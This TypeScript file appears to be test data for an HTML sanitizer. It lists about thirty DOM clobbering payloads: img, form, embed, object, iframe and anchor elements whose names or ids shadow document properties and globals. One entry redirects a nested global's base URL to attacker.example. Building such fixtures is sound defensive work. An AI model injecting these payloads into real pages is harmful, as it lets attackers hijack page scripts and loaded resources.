import { toAttacks, type Attack } from './attack.ts'

/** Elements whose name or id takes the place of a property that code relies on. */
export const clobberingAttacks: Attack[] = toAttacks(
  { family: 'clobbering', bites: 'clobber' },
  {
    'image named getElementById': '<img name=getElementById>',
    'image named querySelector': '<img name=querySelector>',
    'image named createElement': '<img name=createElement>',
    'image named cookie': '<img name=cookie>',
    'image named by id and name': '<img id=createTextNode name=x>',
    'form named body': '<form name=body></form>',
    'form named head': '<form name=head></form>',
    'form named documentElement': '<form name=documentElement></form>',
    'form named addEventListener': '<form name=addEventListener></form>',
    'form named createDocumentFragment': '<form name=createDocumentFragment></form>',
    'form named implementation': '<form name=implementation></form>',
    'form named importNode': '<form name=importNode></form>',
    'form named activeElement': '<form name=activeElement></form>',
    'form named firstChild': '<form name=firstChild></form>',
    'embed named defaultView': '<embed name=defaultView>',
    'embed named currentScript': '<embed name=currentScript>',
    'object named title': '<object name=title></object>',
    'object named baseURI by id': '<object id=baseURI></object>',
    'frame named scrollingElement': '<iframe name=scrollingElement></iframe>',
    'frame named visibilityState': '<iframe name=visibilityState></iframe>',
    'two images named querySelectorAll': '<img name=querySelectorAll><img name=querySelectorAll>',
    'name in mixed quotes': `<img name='createTreeWalker'>`,
    'name spelled by entities': '<img name="get&#69;lementById">',
    'name with its old value': '<img name=hasFocus src=x:>',
    'link that is a global setting': '<a id=__REACT_DEVTOOLS_GLOBAL_HOOK__ href=x:>x</a>',
    'links that are a nested global setting':
      '<a id=__BROADSHEET__></a><a id=__BROADSHEET__ name=base href=https://attacker.example/></a>',
    'form that is a global setting': '<form id=__BROADSHEET__><input name=base value=x></form>',
    'frame that is a global setting': '<iframe name=__BROADSHEET__></iframe>',
  },
)
